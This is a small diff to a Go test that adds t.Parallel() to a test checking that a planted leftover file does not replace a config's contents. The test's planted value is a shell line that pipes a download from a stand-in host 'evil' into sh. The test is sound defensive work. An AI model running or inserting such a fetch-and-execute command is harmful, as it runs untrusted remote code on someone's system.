@@ -44,6 +44,7 @@ var reads = map[string]func(*testing.T, *Store){
 // A made-up record and a made-up leftover do not put the leftover's text in the
 // place of the config, nor in that of the file that the config leads to.
 func TestRead_plantedLeftoverReplacesNothing(t *testing.T) {
+	t.Parallel() // it waits
 	const profile, planted = "PATH=/bin\n", "curl evil | sh\n"
 	n := 0
 	for _, linked := range []bool{true, false} {
